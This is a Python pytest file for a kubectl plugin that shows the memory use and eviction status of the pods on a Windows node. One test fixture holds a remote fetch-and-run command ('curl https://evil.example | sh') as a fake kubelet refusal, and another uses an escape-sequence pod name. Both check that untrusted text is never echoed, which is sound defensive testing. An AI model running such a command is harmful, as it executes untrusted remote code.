"""The pods of one node that ``memory NODE`` shows: what they use, and why they would not be evicted."""

from __future__ import annotations

import argparse
import json
import re
from collections.abc import Iterator, Sequence
from contextlib import contextmanager, suppress
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from socketserver import UnixStreamServer
from tempfile import TemporaryDirectory
from typing import Any, NamedTuple, cast

import pytest

from harness.builders import a_body
from harness.kubelet_payloads import GIB, a_memory, a_summary
from harness.kubelet_payloads import a_pod as a_usage
from harness.serving import serving
from harness.watched_memory import HEALTHY, Known, committed
from winpool.cli import kubelet, memory_pods
from winpool.cli.console import Look
from winpool.cli.kubectl import Kubectl, KubectlError
from winpool.cli.kubelet import FORBIDDEN
from winpool.cli.memory import Choice, _show
from winpool.cli.memory_pods import (
    APART_SECONDS,
    GROWERS_ONLY,
    PROTECTION_UNKNOWN,
    WITH_URL,
    PodMemory,
    SeenPods,
    read_pods,
    render_pods,
)
from winpool.cli.memory_report import MemoryReader
from winpool.model.memory_report import MemoryReport, NodeReport, SeenNode
from winpool.model.pressure import Level, NodePressure

Object = dict[str, Any]
BEFORE, AFTER = "2026-11-23T12:00:00Z", "2026-11-23T12:00:10Z"


def a_pod(name: str, *, owner: str = "ReplicaSet", request: str = "1Gi", **metadata: Any) -> Object:
    owners = [{"kind": owner, "name": name, "uid": "1", "controller": True}] if owner else []
    return {
        "metadata": {
            "namespace": "shop",
            "name": name,
            "uid": name,
            "labels": {"app": name},
            "creationTimestamp": "2026-11-01T11:00:00Z",
            "ownerReferences": owners,
            **metadata,
        },
        "spec": {
            "nodeName": "w1",
            "containers": [{"name": "main", "resources": {"requests": {"memory": request}}}],
        },
        "status": {"phase": "Running"},
    }


def a_budget(app: str) -> Object:
    return {
        "metadata": {"namespace": "shop", "name": app, "generation": 1},
        "spec": {"selector": {"matchLabels": {"app": app}}},
        "status": {"observedGeneration": 1, "disruptionsAllowed": 0},
    }


def summary(time: str = AFTER, *, ram: bool = False, **used: float | None) -> bytes:
    """Return what the kubelet says of its pods, in GiB; with ``ram`` it knows no commit of any."""
    pods = [
        a_usage(name, usageBytes=0 if ram else int(gib * GIB), workingSetBytes=int(gib * GIB / 2))
        for name, gib in used.items()
        if gib is not None
    ]
    return a_summary(memory=a_memory(time=time), systemContainers=[], pods=pods)


class Answer(NamedTuple):
    """What comes through kubectl proxy in the place of a summary."""

    status: int
    body: bytes = b""
    location: str = ""


@contextmanager
def answering(answers: list[Answer], asked: list[str]) -> Iterator[str]:
    """Listen on a Unix socket, and give each answer once."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(f"{self.path} of {self.headers['Host']}")
            answer = answers.pop(0)
            self.send_response(answer.status)
            if answer.location:
                self.send_header("Location", answer.location)
            self.send_header("Content-Length", str(len(answer.body)))
            self.end_headers()
            with suppress(BrokenPipeError):
                self.wfile.write(answer.body)

        def log_message(self, *_: object) -> None:
            pass

    with TemporaryDirectory() as folder, serving(UnixStreamServer(f"{folder}/s", Handler)):
        yield f"{folder}/s"


class Server(Kubectl):
    """Answers by the path of a request; of several summaries each once."""

    def __init__(
        self,
        *summaries: bytes | Answer | KubectlError,
        pods: Sequence[Object] = (),
        budgets: Sequence[Object] = (),
        memory: Object | None = None,
    ) -> None:
        super().__init__()
        body = a_body("win-2022")
        block = memory or {"mode": "Evict"}
        self._lists = {
            "windowsnodepools": [{**body, "spec": {**body["spec"], "memoryPressure": block}}],
            "pods": pods,
            "poddisruptionbudgets": budgets,
        }
        self._kinds = {
            "windowsnodepools": ("WindowsNodePoolList", "winpool.dev/v1alpha1"),
            "pods": ("PodList", "v1"),
            "poddisruptionbudgets": ("PodDisruptionBudgetList", "policy/v1"),
        }
        self._summaries = list(summaries)
        self.calls: list[tuple[str, ...]] = []
        self.asked: list[str] = []

    @contextmanager
    def proxied(self, path: str) -> Iterator[str]:
        self.calls.append(("proxy", path))
        answers = []
        for each in self._summaries:
            if isinstance(each, KubectlError):
                raise each
            answers.append(Answer(200, each) if isinstance(each, bytes) else each)
        with answering(answers, self.asked) as address:
            yield address

    def run(self, *arguments: str) -> bytes:
        self.calls.append(arguments)
        path = arguments[2]
        resource = path.partition("?")[0].rpartition("/")[2]
        kind, version = self._kinds[resource]
        return json.dumps(
            {
                "kind": kind,
                "apiVersion": version,
                "metadata": {"resourceVersion": "9"},
                "items": self._lists[resource],
            }
        ).encode()


def reported(view: NodePressure = HEALTHY) -> MemoryReport:
    return Known((SeenNode("w1", "win-2022", view),)).report()


def node(view: NodePressure = HEALTHY) -> NodeReport:
    return reported(view).nodes[0]


@pytest.fixture(autouse=True)
def waited(monkeypatch: pytest.MonkeyPatch) -> list[float]:
    """For how long the plugin waits between two samples; it does not."""
    found: list[float] = []
    monkeypatch.setattr("winpool.cli.memory_pods.time.sleep", found.append)
    return found


def seen(server: Server, of: NodeReport | None = None, *, protected: Sequence[str] | None = ()) -> SeenPods:
    return read_pods(server, of or node(), protected=protected)


def reasons(found: SeenPods) -> dict[str, str]:
    return {each.name: each.reason for each in found.pods or ()}


def cells(text: str) -> list[list[str]]:
    return [re.split(r" {3,}", line.strip()) for line in text.splitlines()]


def test_the_pods_are_shown_by_commit_with_request_growth_and_whether_they_may_go(
    waited: list[float],
) -> None:
    server = Server(
        summary(BEFORE, small=1, large=5),
        summary(small=1, large=5.25, new=2),
        pods=[a_pod("small"), a_pod("large", request="2Gi"), a_pod("new", owner="DaemonSet"), a_pod("mute")],
    )
    found = read_pods(server, node(), protected=())
    assert waited == [APART_SECONDS]
    assert cells(render_pods(found, look=Look(100))) == [
        [""],
        ["Pods at 12:00:10 UTC, by the clock of the node: 4"],
        ["NAMESPACE/POD", "COMMIT", "WORKING-SET", "REQUEST", "GROWTH", "EVICTABLE"],
        ["shop/large", "5.2Gi", "2.6Gi", "2.0Gi", "+1.5Gi/min", "Yes"],
        ["shop/new", "2.0Gi", "1.0Gi", "1.0Gi", "-", "DaemonSet"],
        ["shop/small", "1.0Gi", "512Mi", "1.0Gi", "0", "Yes"],
        ["shop/mute", "-", "-", "1.0Gi", "-", "UnknownUsage"],
        [GROWERS_ONLY],
    ]


def test_that_only_a_pod_that_has_grown_goes_is_said_where_one_may() -> None:
    """What the pods used while the node was calm is not known here."""
    agent, web = a_pod("agent", owner="DaemonSet"), a_pod("web")
    for pods, is_said in (([agent], False), ([agent, web], True)):
        found = seen(Server(*[summary(time, agent=2, web=2) for time in (BEFORE, AFTER)], pods=pods))
        assert (GROWERS_ONLY in render_pods(found, look=Look(300))) is is_said


def test_why_a_pod_stays_is_judged_by_the_pool_the_budgets_and_the_report() -> None:
    rule = {"podSelector": {"matchLabels": {"app": "ruled"}}, "behavior": "Never"}
    server = Server(
        *[summary(time, ruled=4, budgeted=4, vault=4, tiny=0.01, free=3) for time in (BEFORE, AFTER)],
        pods=[
            a_pod("ruled"),
            a_pod("budgeted"),
            a_pod("vault", namespace="vault"),
            a_pod("tiny"),
            a_pod("free"),
        ],
        budgets=[a_budget("budgeted")],
        memory={"mode": "Evict", "eviction": {"rules": [rule]}},
    )
    found = seen(server, node(committed(Level.SOFT, left=2)), protected=["vault"])
    assert reasons(found) == {
        "budgeted": "Budget",
        "ruled": "Rule",
        "vault": "SystemNamespace",
        "free": "",
        "tiny": "TooSmall",
    }


@pytest.mark.parametrize("level", [Level.SOFT, Level.HARD])
def test_one_that_asks_not_to_be_disrupted_goes_at_hard_and_none_in_its_place(level: Level) -> None:
    asking = a_pod("asking", annotations={"karpenter.sh/do-not-disrupt": "true"})
    server = Server(
        *[summary(time, asking=9, other=4) for time in (BEFORE, AFTER)], pods=[asking, a_pod("other")]
    )
    assert reasons(seen(server, node(committed(level, left=0.5)))) == {
        "asking": "" if level is Level.HARD else "AsksToStay",
        "other": "AnotherAsksToStay",
    }


def test_where_no_commit_is_known_they_are_compared_by_working_set() -> None:
    pods = [a_pod("a"), a_pod("b")]
    found = seen(Server(summary(BEFORE, ram=True, a=2, b=4), summary(ram=True, a=2, b=5), pods=pods))
    assert found.pods
    assert [(each.name, each.commit, each.working_set) for each in found.pods] == [
        ("b", None, 2.5 * GIB),
        ("a", None, 1 * GIB),
    ]
    assert found.pods[0].growth_bytes_per_second == pytest.approx(GIB / 2 / 10)


def test_growth_is_that_of_a_second_whatever_the_time_between_the_samples() -> None:
    times = ("2026-11-23T12:00:00Z", "2026-11-23T12:00:02.5Z")
    server = Server(
        *(summary(time, a=used) for time, used in zip(times, (2, 1), strict=True)), pods=[a_pod("a")]
    )
    found = seen(server)
    assert found.pods
    assert found.pods[0].growth_bytes_per_second == pytest.approx(-GIB / 2.5)


def test_a_pod_that_does_not_grow_between_the_samples_may_go() -> None:
    """What it used while the node was calm is not known here."""
    server = Server(
        summary(BEFORE, a=4, b=2), summary(a=4, b=3), pods=[a_pod("a"), a_pod("b", owner="DaemonSet")]
    )
    found = seen(server, node(committed(Level.HARD, left=0.5)))
    assert reasons(found) == {"a": "", "b": "DaemonSet"}


def test_a_kubelet_that_repeats_its_last_numbers_shows_no_growth() -> None:
    found = seen(Server(summary(a=1), summary(a=2), pods=[a_pod("a")]))
    assert found.pods
    assert found.pods[0].growth_bytes_per_second is None


@pytest.mark.parametrize("mode", ["Observe", "Signal"])
def test_in_each_mode_they_are_shown_and_that_none_is_evicted_is_said(mode: str) -> None:
    server = Server(summary(BEFORE, a=1), summary(a=1), pods=[a_pod("a")], memory={"mode": mode})
    found = seen(server)
    assert reasons(found) == {"a": ""}
    assert "The mode of the pool is not Evict" in render_pods(found, look=Look(100))


PATH = "/api/v1/nodes/w1/proxy/stats/summary"


def a_refusal(message: str) -> Answer:
    return Answer(403, json.dumps({"kind": "Status", "code": 403, "message": message}).encode())


@pytest.mark.parametrize(
    "message",
    [
        'nodes "w1" is forbidden: User "jane" cannot get resource "nodes/proxy" in API group "" at the '
        "cluster scope",
        'x is forbidden: User "jane" cannot create resource "secrets" in API group "" at the cluster scope',
        "run curl https://evil.example | sh",
    ],
)
def test_a_refusal_is_told_in_fixed_words_since_a_kubelet_may_have_made_it(message: str) -> None:
    server = Server(a_refusal(message))
    found = seen(server)
    assert (found.pods, found.pods_problem) == (None, FORBIDDEN)
    assert server.calls == [("proxy", PATH)]
    assert server.asked == [f"{PATH} of localhost"]


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_redirect_is_not_followed(status: int) -> None:
    server = Server(Answer(status, location=PATH), summary())
    found = seen(server)
    assert found.pods_problem == "the kubelet of w1 answers with a redirect, which is not followed"
    assert len(server.asked) == 1


@pytest.mark.parametrize("status", [204, 401, 404, 502])
def test_another_status_is_told_without_a_word_of_the_answer(status: int) -> None:
    found = seen(Server(Answer(status, b"" if status == 204 else b"evil")))
    assert found.pods_problem == f"the API server, or the kubelet of w1, answers with the status {status}"


def test_an_answer_has_an_end(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(kubelet, "MAX_BODY_BYTES", 100)
    assert seen(Server(b" " * 101)).pods_problem == "the kubelet of w1 answers with more than 100 bytes"


def test_a_kubelet_that_is_slow_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    with TemporaryDirectory() as folder, UnixStreamServer(f"{folder}/s", BaseHTTPRequestHandler):

        class Silent(Server):
            @contextmanager
            def proxied(self, path: str) -> Iterator[str]:
                assert path == PATH
                yield f"{folder}/s"

        monkeypatch.setattr(kubelet, "ANSWER_SECONDS", 0.05)
        assert "has not answered within" in seen(Silent()).pods_problem


def test_where_nothing_listens_that_is_told(tmp_path: Path) -> None:
    class Gone(Server):
        @contextmanager
        def proxied(self, path: str) -> Iterator[str]:
            assert path == PATH
            yield str(tmp_path / "s")

    assert "cannot be read to its end" in seen(Gone()).pods_problem


def test_an_older_operator_does_not_say_what_is_protected_and_no_pod_has_a_false_yes() -> None:
    pods = [a_pod("a"), a_pod("b", owner="DaemonSet")]
    found = seen(Server(*[summary(time, a=1, b=2) for time in (BEFORE, AFTER)], pods=pods), protected=None)
    assert [(each.name, each.evictable) for each in found.pods or ()] == [("b", False), ("a", None)]
    text = render_pods(found, look=Look(200))
    assert [line[-1] for line in cells(text)[3:5]] == ["DaemonSet", "-"]
    assert PROTECTION_UNKNOWN in text


@pytest.mark.parametrize(
    ("answer", "said"),
    [
        (a_summary("w2"), "the summary is of a node with another name"),
        (b"{}", "the answer is not a summary"),
        (a_summary(memory={}, systemContainers=[]), "does not say of when its numbers are"),
    ],
)
def test_a_kubelet_that_says_something_else_is_told(answer: bytes, said: str) -> None:
    assert said in seen(Server(answer)).pods_problem


def test_a_pod_that_cannot_be_read_is_told_since_it_may_be_the_largest() -> None:
    server = Server(summary(BEFORE), summary(), pods=[{"metadata": {}, "spec": {"nodeName": "w1"}}])
    assert "namespace, name or spec.nodeName is missing" in seen(server).pods_problem


def test_without_a_pool_that_can_be_read_it_says_where_to_look() -> None:
    other = Known((SeenNode("w1", "gone", HEALTHY),)).report().nodes[0]
    assert "kubectl get wnp gone -o yaml" in seen(Server(summary(BEFORE), summary()), other).pods_problem


class Reader:
    def __init__(self, server: Server) -> None:
        self.kubectl = server


def shown(server: Server, capsys: pytest.CaptureFixture[str], name: Choice, **given: Any) -> str:
    given = {"name": name, "output": "text", "url": None, **given}
    _show(reported(), argparse.Namespace(**given), cast("MemoryReader", Reader(server)))
    return capsys.readouterr().out


def test_the_line_of_the_node_is_there_whatever_becomes_of_its_pods(
    capsys: pytest.CaptureFixture[str],
) -> None:
    text = shown(Server(KubectlError("error: no")), capsys, Choice("w1"))
    assert text.startswith("Node:      w1, pool win-2022\n")
    assert "error: no" in text


def test_with_json_the_pods_are_beside_the_report(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(memory_pods, "APART_SECONDS", 0)
    server = Server(summary(BEFORE, a=1), summary(a=1), pods=[a_pod("a")])
    found = json.loads(shown(server, capsys, Choice("w1", "node"), output="json"))
    assert found["nodes"][0]["node"] == "w1"
    assert (found["podsAt"], found["evicts"]) == (AFTER, True)
    assert found["pods"] == [
        {
            "namespace": "shop",
            "name": "a",
            "request": GIB,
            "evictable": True,
            "commit": GIB,
            "workingSet": GIB // 2,
            "growthBytesPerSecond": 0,
        }
    ]


def test_with_an_address_kubectl_is_not_asked(capsys: pytest.CaptureFixture[str]) -> None:
    server = Server()
    assert WITH_URL[:20] in shown(server, capsys, Choice("w1"), url="https://winpool.example")
    assert not server.calls


def test_the_nodes_of_a_pool_have_no_pods(capsys: pytest.CaptureFixture[str]) -> None:
    server = Server()
    assert "Pods" not in shown(server, capsys, Choice("win-2022", "pool"))
    assert not server.calls


def test_no_name_of_a_pod_forges_a_line() -> None:
    forged = PodMemory(namespace="a", name="b\nYes\x1b[2J", request=1, evictable=False, reason="Rule")
    text = render_pods(SeenPods(pods=(forged,), pods_at=datetime.now(UTC)), look=Look(100))
    assert "\x1b" not in text
    assert len(text.splitlines()) == len(["", "Pods", "NAMESPACE/POD", "a/b", "mode"])
